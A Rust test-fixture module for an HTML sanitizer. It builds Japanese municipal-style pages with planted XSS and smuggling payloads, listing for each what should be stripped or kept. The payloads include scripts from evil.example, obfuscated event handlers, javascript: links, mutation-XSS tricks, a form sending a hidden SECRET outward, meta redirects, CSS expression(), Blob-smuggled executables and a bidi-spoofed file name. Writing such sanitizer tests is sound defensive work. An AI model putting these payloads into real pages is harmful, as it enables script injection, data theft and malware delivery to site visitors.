//! Web pages: clean ones with what a town's page holds, one planter per danger and disguise, broken ones.

use crate::{Planted, Planter};

/// Text that every planted page keeps.
const BODY: &str = "窓口は平日の八時半から";

/// A page around a piece of a body.
pub fn page(body: &str) -> Vec<u8> {
    around("", body)
}

/// A page with a piece of a head and a piece of a body.
fn around(head: &str, body: &str) -> Vec<u8> {
    format!("<!DOCTYPE html>\n<html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>案内</title>{head}</head>\n<body><p>{BODY}</p>{body}</body></html>\n")
        .into_bytes()
}

/// Base64 with padding (RFC 4648 §4).
pub(crate) fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0_usize, |n, b| n << 8 | usize::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..4 {
            out.push(if i <= chunk.len() { char::from(SIGNS[n >> (18 - 6 * i) & 63]) } else { '=' });
        }
    }
    out
}

fn planted(bytes: Vec<u8>, gone: &[&str], kept: &[&str]) -> Planted {
    let list = |l: &[&str]| l.iter().map(|s| s.as_bytes().to_vec()).collect::<Vec<_>>();
    let mut kept = list(kept);
    kept.push(BODY.as_bytes().to_vec());
    Planted { name: "案内.html".into(), bytes, gone: list(gone), kept }
}

macro_rules! plant {
    ($($rule:literal, $shape:literal, $bytes:expr, [$($gone:expr),*], [$($kept:expr),*];)*) => {
        /// Every planter of this family.
        pub fn planters() -> Vec<Planter> {
            vec![$(Planter { rule: $rule, shape: $shape, plant: || planted($bytes, &[$($gone),*], &[$($kept),*]) },)*]
        }
    };
}

plant! {
    "html.script", "plain: in head and body", around("<script>alert(1)</script>", "<script src=http://evil.example/x.js></script>"), ["script", "alert", "evil.example"], [];
    "html.script", "obfuscated: case, white space, an end tag within a string", page("<ScRiPt\n>var a='</sc'+'ript>';evil()</sCrIpT\t\n><p>後</p>"), ["cript", "evil"], ["<p>後</p>"];
    "html.script", "obfuscated: a script put together by mutation", page("<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>"), ["onerror=\"", "<noscript"], [];
    "html.script", "obfuscated: smuggled file", page("<script>const b=new Blob([atob('TVqQAAMAAAAE')]);</script><a href=\"blob:x\" download=\"a.exe\">保存</a>"), ["Blob", "TVqQ", "download", "blob:"], ["保存"];
    "html.event-handler", "plain: onclick", page("<p onclick=\"evil()\">押す</p>"), ["onclick", "evil"], ["<p>押す</p>"];
    "html.event-handler", "obfuscated: slash for space, entities, case", page("<b/OnMouseOver=&#101;vil()>上</b>"), ["nMouse", "nmouse", "vil()"], ["<b>上</b>"];
    "html.active-element", "plain: iframe, object, embed", page("<iframe src=//evil.example/></iframe><object data=x.swf><embed src=y></object>"), ["iframe", "object", "embed", "evil.example", "x.swf"], [];
    "html.active-element", "obfuscated: srcdoc and a template", page("<iframe srcdoc=\"&lt;script&gt;evil()&lt;/script&gt;\"></iframe><template><script>evil()</script></template>"), ["evil", "srcdoc", "template"], [];
    "html.form", "plain: a form that sends", page("<form action=http://evil.example/ method=post><input name=a value=\"山田\"><input type=hidden value=SECRET><input type=checkbox checked>同意<select><option>甲<option selected>乙</select><textarea>備考</textarea><button formaction=javascript:evil()>送信</button></form>"), ["form", "evil", "SECRET", "<input", "<select", "甲"], ["山田", "☑同意", "乙", "備考", "送信"];
    "html.form", "obfuscated: a control that belongs to a form elsewhere", page("<form id=f action=//evil.example></form><input form=f type=submit formaction=//evil.example value=\"確認\">"), ["evil.example", "formaction", "<form"], ["確認"];
    "html.link", "plain: javascript", page("<a href=\"javascript:evil()\">詳しく</a>"), ["javascript", "evil"], ["<a>詳しく</a>"];
    "html.link", "obfuscated: entities, tab and case within the scheme", page("<a href=\"&#106;av&#x09;aSCRIPT&colon;evil()\">詳しく</a>"), ["evil", "href"], ["詳しく"];
    "html.link", "obfuscated: a share, a file, data", page("<a href=\"\\\\evil.example\\a\">共有</a><a href=file:///c:/x>箱</a><a href=data:text/html,evil>頁</a>"), ["evil", "file:"], ["共有", "箱", "頁"];
    "html.remote-resource", "plain: a picture from elsewhere", page("<img src=\"http://evil.example/t.gif\" alt=\"地図\" width=1>"), ["evil.example"], ["alt=\"地図\""];
    "html.remote-resource", "obfuscated: srcset, background, poster, link", around("<link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/>", "<table background=//evil.example/b><tr><td>表</td></tr></table><img srcset=\"//evil.example/c 2x\" alt=絵><video poster=//evil.example/d></video>"), ["evil.example", "srcset", "background", "<link", "<base", "video"], ["表"];
    "html.redirect", "plain: meta refresh", around("<meta http-equiv=refresh content=\"0;url=http://evil.example/\">", ""), ["refresh", "evil.example"], [];
    "html.redirect", "obfuscated: white space and entities", around("<meta content='0;url=data:text/html,evil' http-equiv=' RE&#70;RESH '>", ""), ["data:", "evil"], [];
    "html.style", "plain: a sheet that loads", around("<style>@import url(http://evil.example/a.css);\np{color:red}\n.b{background:url(//evil.example/t)}</style>", ""), ["evil.example", "@import", "url"], ["p { color: red; }"];
    "html.style", "obfuscated: escapes and comments in an attribute", page("<b style=\"color:blue;width:e/**/xpression(evil());background:\\75rl(//evil.example)\">字</b>"), ["evil", "xpression", "\\75"], ["<b style=\"color: blue;\">字</b>"];
    "html.foreign-markup", "plain: svg with a script", page("<svg onload=evil()><script>evil()</script><a xlink:href=javascript:evil()><text>図</text></a></svg>"), ["svg", "evil", "xlink"], [];
    "html.foreign-markup", "obfuscated: math that changes how text is read", page("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=evil()&gt;\"></table></mtext></math><p>後</p>"), ["math", "<mglyph"], ["<p>後</p>"];
    "html.hidden-text", "plain: display none", page("<div style=\"display:none\">隠れた指示</div>"), [], ["隠れた指示"];
    "html.hidden-text", "obfuscated: hidden attribute, upper case", page("<span HIDDEN>隠れた一</span><span STYLE=\"COLOR:red;DISPLAY : NONE\">隠れた二</span>"), [], ["隠れた一", "隠れた二"];
    "text.bidi-control", "a web page: as a reference", page("<p>請求書&#x202E;fdp.exe</p>"), ["\u{202E}", "202E"], ["請求書fdp.exe"];
}

/// Harmless pages with everyday features.
pub fn clean() -> Vec<(String, Vec<u8>)> {
    let picture = base64(&crate::office::package::png());
    let full = format!(
        "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"utf-8\"><title>ごみの出し方 &amp; 収集日</title><style>\nbody {{ font-family: \"ＭＳ 明朝\", serif; }}\n.縦 {{ writing-mode: vertical-rl; }}\n@media print {{\n.no {{ display: none; }}\n}}\n</style></head><body bgcolor=\"#ffffff\"><h1 id=\"top\">ごみの出し方</h1><p class=\"縦\"><ruby>塵芥<rp>（</rp><rt>じんかい</rt><rp>）</rp></ruby>は<a href=\"https://www.city.example.jp/gomi/?a=1&amp;b=2\">こちら</a>、<a href=\"#top\">上へ</a>、<a href=\"mailto:gomi@city.example.jp\">メール</a></p><table border=\"1\" width=\"100%\"><caption>収集日</caption><tbody><tr><th colspan=\"2\" scope=\"col\">種類</th></tr><tr><td style=\"text-align: right;\">燃える</td><td>月・木</td></tr></tbody></table><ol start=\"3\"><li value=\"5\">分ける</li><li>縛る</li></ol><pre>\n\n  字下げ  </pre><img src=\"data:image/png;base64,{picture}\" alt=\"図\" width=\"16\"><hr><details open=\"\"><summary>詳細</summary>葛\u{E0100}飾 ①㈱ ~ &lt;&gt;</details></body></html>"
    );
    vec![
        ("html/ごみの出し方.html".into(), full.into_bytes()),
        ("html/昔の頁.htm".into(), b"<html><head><meta charset=\"utf-8\"><title>old</title></head><body text=\"#000000\"><center><font size=\"5\" face=\"Osaka\">news</font></center></body></html>".to_vec()),
    ]
}

/// Pages that must be refused.
pub fn bad() -> Vec<(String, Vec<u8>)> {
    vec![
        ("html/深い入れ子.html".into(), page(&"<div>".repeat(1_000))),
        (
            "html/枠だけ.html".into(),
            b"<html><frameset cols=\"50%,50%\"><frame src=a.html><frame src=b.html></frameset></html>".to_vec(),
        ),
        (
            "html/スクリプトだけ.html".into(),
            b"<!DOCTYPE html><html><head><script src=app.js></script></head><body><div id=root></div></body></html>"
                .to_vec(),
        ),
        ("html/読めない文字.html".into(), [b"\xEF\xBB\xBF<html><body>".as_slice(), &[0x80; 300]].concat()),
        (
            "html/属性の洪水.html".into(),
            page(&format!("<b {}>x</b>", (0..5_000).map(|n| format!(" a{n}")).collect::<String>())),
        ),
    ]
}
